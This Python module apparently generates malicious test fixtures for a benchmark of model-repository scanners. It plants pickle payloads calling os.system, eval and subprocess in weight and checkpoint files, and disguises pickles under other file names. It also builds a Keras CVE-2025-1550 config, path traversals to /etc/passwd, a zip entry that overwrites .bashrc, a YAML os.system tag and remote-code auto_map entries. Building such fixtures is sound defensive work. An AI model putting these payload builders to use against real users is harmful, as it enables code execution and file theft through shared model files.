"""The bad twins: kind of repo, file, mechanism."""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
from pathlib import Path

from benchmarks.scan.ordinary import other_formats as other
from benchmarks.scan.ordinary.payloads import CALLS, ESCAPE, EVIL, Twin, fields, lines, replaced, stream, torch_file


def external_data(place: Path) -> None:
    """A tensor whose bytes are said to lie outside the repo."""
    import onnx

    model = onnx.load(str(place), load_external_data=False)
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    del tensor.external_data[:]
    tensor.external_data.add(key="location", value="../../../../etc/passwd")
    place.write_bytes(model.SerializeToString())


def object_array(place: Path) -> None:
    """An .npy of dtype object whose pickle is the payload; into an .npz as a member."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    body = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + stream()
    if place.suffix == ".npy":
        place.write_bytes(body)
    else:
        with zipfile.ZipFile(place, "a") as archive:
            archive.writestr("extra.npy", body)


def keras_module(place: Path) -> None:
    """CVE-2025-1550: a layer whose class is a function of a module outside Keras."""
    evil = '{"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}'
    text = (
        '{"module": "keras", "class_name": "Functional", "registered_name": "Functional", "config": {'
        '"name": "f", "layers": '
        '[{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "arguments": {"command": "id"}, '
        '"function": ' + evil + '}, "name": "l", "inbound_nodes": []}], "input_layers": [], "output_layers": []}}'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(place) as old, zipfile.ZipFile(out, "w") as new:
        for member in old.infolist():
            new.writestr(member.filename, text if member.filename == "config.json" else old.read(member))
    place.write_bytes(out.getvalue())


def hdf5_external(place: Path) -> None:
    """An external link out of the file."""
    import h5py

    with h5py.File(place, "r+") as file:
        file["weights_of_another"] = h5py.ExternalLink("../../../../etc/passwd", "/")


def saved_model_writes(place: Path) -> None:
    """A SavedModel with WriteFile, ReadFile, or a PyFunc in its graph."""
    if not other.copied("keras/writes/saved_model.pb", place):
        node = b"\x0a\x05write\x12\x09WriteFile"
        graph = b"\x0a" + bytes([len(node)]) + node
        meta = b"\x12" + bytes([len(graph)]) + graph
        place.write_bytes(b"\x08\x01\x12" + bytes([len(meta)]) + meta)


def torch_script_file(place: Path) -> None:
    """A TorchScript module whose forward maps (and makes) a file."""
    import torch

    class Net(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + torch.from_file("/tmp/hubclean-must-not-be-there", True, 4)

    torch.jit.script(Net()).save(str(place))


def bad_zip(place: Path) -> None:
    with zipfile.ZipFile(place, "a") as archive:
        archive.writestr("../../.bashrc", "echo x\n")


def zip_with_pickle(place: Path) -> None:
    with zipfile.ZipFile(place, "a") as archive:
        archive.writestr("cache/data.pkl", stream("exec"))


def tar_gz(place: Path) -> None:
    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w:gz") as archive:
        info = tarfile.TarInfo("state/optimizer.pkl")
        info.size = len(stream())
        archive.addfile(info, io.BytesIO(stream()))
    place.write_bytes(body.getvalue())


def joblib_payload(place: Path) -> None:
    import zlib

    body = b"\x80\x03" + CALLS["os-system"] + b"."
    place.write_bytes(zlib.compress(body) if "compressed" in place.name else body)


def skops_payload(place: Path) -> None:
    """A skops file whose schema names a function of a module that runs commands."""
    import json

    schema = {
        "__class__": "system",
        "__module__": "os",
        "__loader__": "FunctionNode",
        "__id__": 1,
        "protocol": 1,
        "content": {"module_path": "os", "function": "system"},
        "_skops_version": "0.11",
    }
    with zipfile.ZipFile(place, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))


def chat_gguf(place: Path) -> None:
    other.gguf(place, ESCAPE)


def keras_lambda(place: Path) -> None:
    other.keras_file(place, with_lambda=True)


def keras_lambda_weights(place: Path) -> None:
    """A whole model with a Lambda where tf_model.h5 has weights alone."""
    keras_lambda(place.with_name("lambda.h5"))
    place.with_name("lambda.h5").replace(place)


def module_with_code(place: Path) -> None:
    """modules.json names a class of a file that comes with it."""
    place.write_text('[{"idx": 0, "name": "0", "path": "0_CLIPModel", "type": "modeling_evil.Evil"}]')
    place.with_name("modeling_evil.py").write_text("import os\n\nos.system('id')\n")


def polyglot(place: Path) -> None:
    """A torch zip behind a picture."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", stream("eval"))
    place.write_bytes(place.read_bytes() + out.getvalue())


TWINS = (
    # pickles where weights are
    Twin("google-vit-base", "pytorch_model.bin", "weights-os-system", torch_file("os-system")),
    Twin("microsoft-beit-bin-only", "pytorch_model.bin", "weights-eval", torch_file("eval")),
    Twin("openai-clip-vit-base", "pytorch_model.bin", "weights-getattr-chain", torch_file("getattr-chain")),
    Twin("sharded-bin", "pytorch_model-00002*.bin", "second-shard-subprocess", torch_file("subprocess")),
    Twin("fp16-variants", "pytorch_model.fp16.bin", "variant-exec", torch_file("exec")),
    Twin("subfolders", "base/pytorch_model.bin", "subfolder-network", torch_file("network")),
    Twin("timm-bin-only", "pytorch_model.bin", "timm-open-file", torch_file("open")),
    Twin("timm-push-to-hub", "pytorch_model.bin", "timm-hub-load", torch_file("hub-load")),
    Twin("timm-training-output", "checkpoint-9.pth.tar", "timm-checkpoint-inst", torch_file("inst")),
    Twin("open-clip", "open_clip_pytorch_model.bin", "open-clip-obj", torch_file("obj")),
    Twin("state-dict-folder", "legacy.pt", "legacy-torch-posix", torch_file("posix-system")),
    Twin("state-dict-folder", "resnet_tiny-0676ba61.pth", "pth-runpy", torch_file("runpy")),
    Twin("lightning-checkpoint", "last.ckpt", "lightning-import", torch_file("import")),
    Twin("half-precision-state-dict", "model.pth", "numpy-runstring", torch_file("numpy-runstring")),
    Twin("diffusion-pipeline", "vae/diffusion_pytorch_model.bin", "vae-from-pretrained", torch_file("from-pretrained")),
    Twin("sentence-transformers-clip", "0_CLIPModel/pytorch_model.bin", "subfolder-nt-system", torch_file("nt-system")),
    # training state
    Twin("trainer-push", "training_args.bin", "training-args-os-system", torch_file("os-system")),
    Twin("trainer-push-options", "training_args.bin", "training-args-getattr", torch_file("getattr-chain")),
    Twin("trainer-push-with-checkpoints", "checkpoint-500/optimizer.pt", "optimizer-exec", torch_file("exec")),
    Twin("trainer-push-with-checkpoints", "checkpoint-1000/scheduler.pt", "scheduler-eval", torch_file("eval")),
    Twin(
        "trainer-push-with-checkpoints", "checkpoint-1000/rng_state.pth", "rng-state-posix", torch_file("posix-system")
    ),
    Twin("trainer-push-with-checkpoints", "checkpoint-500/scaler.pt", "scaler-subprocess", torch_file("subprocess")),
    Twin("trainer-push-old-and-new-weights", "logs/training_args.bin", "nested-training-args", torch_file("os-system")),
    Twin("falconsai-nsfw", "optimizer.pt", "root-optimizer-inst", torch_file("inst")),
    Twin("accelerate-states", "step_500/random_states_0.pkl", "random-states-os-system", torch_file("os-system")),
    Twin("accelerate-states", "step_500/optimizer.bin", "accelerate-optimizer-open", torch_file("open")),
    Twin("peft-lora", "checkpoint-500/rng_state.pth", "lora-rng-network", torch_file("network")),
    Twin("peft-lora", "training_args.bin", "lora-training-args", torch_file("subprocess")),
    Twin("peft-lora-bin", "adapter_model.bin", "lora-weights-os-system", torch_file("os-system")),
    # disguises: a pickle under another name
    Twin("google-vit-base", "model.safetensors", "pickle-named-safetensors", replaced(stream())),
    Twin("google-vit-base", "flax_model.msgpack", "pickle-named-msgpack", replaced(stream())),
    Twin("google-vit-base", "tf_model.h5", "pickle-named-h5", replaced(stream())),
    Twin("google-vit-base", "README.md", "pickle-named-readme", replaced(stream())),
    Twin("google-vit-base", ".gitattributes", "pickle-named-gitattributes", replaced(stream("exec"))),
    Twin("trainer-push", "runs/*/events.out.tfevents.*", "pickle-named-tfevents", replaced(stream())),
    Twin("trainer-push", "trainer_state.json", "pickle-named-json", replaced(stream("eval"))),
    Twin("trainer-push-with-scripts", ".DS_Store", "pickle-named-ds-store", replaced(stream())),
    Twin(
        "trainer-push-with-scripts",
        "labels.txt",
        "broken-pickle-named-txt",
        replaced(b"cos\nsystem\n(S'id'\ntR\xff\xfe broken"),
    ),
    Twin("trainer-push-with-scripts", "notebook.ipynb", "pickle-named-notebook", replaced(stream())),
    Twin("google-siglip-base", "spiece.model", "pickle-named-spiece", replaced(stream())),
    Twin("google-siglip2-large-tokenizer", "tokenizer.json", "pickle-named-tokenizer", replaced(stream())),
    Twin("openai-clip-vit-base", "vocab.json", "pickle-named-vocab", replaced(stream())),
    Twin("openai-clip-vit-base", "merges.txt", "protocol-0-named-merges", replaced(b"cos\nsystem\n(S'id'\ntR.")),
    Twin("pictures-notebooks-and-app", "assets/sample.png", "pickle-named-png", replaced(stream())),
    Twin("pictures-notebooks-and-app", "sample.parquet", "pickle-named-parquet", replaced(stream())),
    Twin("pictures-notebooks-and-app", "assets/demo.mp4", "pickle-named-mp4", replaced(stream())),
    Twin("pictures-notebooks-and-app", "assets/icon.bmp", "torch-zip-behind-a-picture", polyglot),
    Twin("openvino-beside", "openvino_model.bin", "pickle-named-openvino-bin", replaced(stream())),
    Twin("apple-mobilevit-small", "MobileViT.mlmodel", "pickle-named-mlmodel", replaced(stream())),
    Twin("xenova", "onnx/model_quantized.onnx", "pickle-named-onnx", replaced(stream())),
    Twin("onnx-beside", "onnx/model_external.onnx_data", "pickle-named-onnx-data", replaced(stream())),
    Twin("tflite-only", "model.tflite", "pickle-named-tflite", replaced(stream())),
    Twin("gguf-vision", "mmproj-model-f16.gguf", "pickle-named-gguf", replaced(stream())),
    Twin("tfjs", "group1-shard1of1.bin", "pickle-named-tfjs-shard", replaced(stream())),
    Twin("keras-push", "variables/variables.index", "pickle-named-variables", replaced(stream())),
    Twin("state-dict-folder", "data_parallel.pth", "gzip-around-a-pickle", replaced(gzip.compress(stream(), mtime=0))),
    # configs
    Twin("google-vit-base", "config.json", "auto-map-with-code", fields("modeling_evil.py", auto_map=EVIL)),
    Twin(
        "microsoft-resnet-50",
        "config.json",
        "auto-map-other-repo",
        fields(auto_map={"AutoConfig": "evil/repo--modeling_evil.Evil"}),
    ),
    Twin("facebook-dinov2-small", "config.json", "kernel-in-config", fields(_attn_implementation="evil/kernel")),
    Twin(
        "vision-language-chat",
        "config.json",
        "kernel-in-vision-config",
        fields(vision_config={"_attn_implementation": "evil/kernel:fn"}),
    ),
    Twin("trainer-push", "config.json", "kernel-in-pushed-config", fields(attn_implementation="evil/flash@main")),
    Twin(
        "google-siglip-base",
        "preprocessor_config.json",
        "auto-map-in-processor",
        fields("modeling_evil.py", auto_map={"AutoImageProcessor": "modeling_evil.Evil"}),
    ),
    Twin(
        "openai-clip-vit-base",
        "tokenizer_config.json",
        "auto-map-in-tokenizer",
        fields("modeling_evil.py", auto_map={"AutoTokenizer": ["modeling_evil.Evil", None]}),
    ),
    Twin("subfolders", "large/v2/config.json", "auto-map-in-subfolder", fields("modeling_evil.py", auto_map=EVIL)),
    Twin(
        "trainer-push-with-checkpoints",
        "checkpoint-500/config.json",
        "auto-map-in-checkpoint",
        fields("modeling_evil.py", auto_map=EVIL),
    ),
    Twin("vision-language-chat", "chat_template.jinja", "template-escape-jinja", lines(ESCAPE)),
    Twin("vision-language-chat", "chat_template.json", "template-escape-json", fields(chat_template=ESCAPE)),
    Twin("openai-clip-vit-base", "tokenizer_config.json", "template-escape-tokenizer", fields(chat_template=ESCAPE)),
    Twin("gguf-vision", "model-Q4_K_M.gguf", "template-escape-gguf", chat_gguf),
    Twin(
        "peft-lora",
        "adapter_config.json",
        "adapter-imports-a-module",
        fields("evil.py", auto_mapping={"base_model_class": "Evil", "parent_library": "evil"}),
    ),
    Twin(
        "timm-push-to-hub",
        "config.json",
        "timm-file-outside",
        fields(pretrained_cfg={"file": "../../../../etc/passwd"}),
    ),
    Twin(
        "open-clip",
        "open_clip_config.json",
        "open-clip-trusts-code",
        fields(
            model_cfg={"text_cfg": {"hf_tokenizer_name": "evil/repo", "tokenizer_kwargs": {"trust_remote_code": True}}}
        ),
    ),
    Twin(
        "sharded-safetensors",
        "model.safetensors.index.json",
        "index-leaves-the-repo",
        fields(weight_map={"classifier.weight": "../../../evil.safetensors"}),
    ),
    Twin(
        "diffusion-pipeline",
        "model_index.json",
        "pipeline-with-code",
        fields("pipeline_evil.py", _class_name=["pipeline_evil", "Evil"]),
    ),
    Twin("sentence-transformers-clip", "modules.json", "module-with-code", module_with_code),
    Twin(
        "trainer-push-with-scripts",
        "config.yaml",
        "yaml-python-tag",
        lines("x: !!python/object/apply:os.system ['id']\n"),
    ),
    # other formats
    Twin("facebook-convnext-tiny", "tf_model.h5", "lambda-in-tf-model", keras_lambda_weights),
    Twin("facebook-deit-base", "tf_model.h5", "hdf5-external-link", hdf5_external),
    Twin("keras-file", "model.keras", "keras-lambda", keras_lambda),
    Twin("keras-file", "model.keras", "keras-module-outside", keras_module),
    Twin("keras-h5", "model.h5", "h5-lambda", keras_lambda),
    Twin("keras-push", "saved_model.pb", "saved-model-writes-files", saved_model_writes),
    Twin("onnx-beside", "onnx/model.onnx", "external-data-traversal", external_data),
    Twin("onnx-only-root", "model.onnx", "external-data-traversal-root", external_data),
    Twin("torchscript-beside", "model_scripted.pt", "torchscript-maps-a-file", torch_script_file),
    Twin("dataset-script-beside", "mean.npy", "object-array", object_array),
    Twin("dataset-script-beside", "features.npz", "object-array-in-npz", object_array),
    Twin("pictures-notebooks-and-app", "samples.zip", "zip-member-leaves", bad_zip),
    Twin("pictures-notebooks-and-app", "samples.zip", "pickle-in-a-zip", zip_with_pickle),
    Twin("state-dict-folder", "extra.tar.gz", "pickle-in-a-tar-gz", tar_gz),
    Twin("sklearn-skops", "model.skops", "skops-os-system", skops_payload),
    Twin("sklearn-joblib", "probe.joblib", "joblib-os-system", joblib_payload),
    Twin("sklearn-joblib", "probe_compressed.joblib", "joblib-compressed", joblib_payload),
)
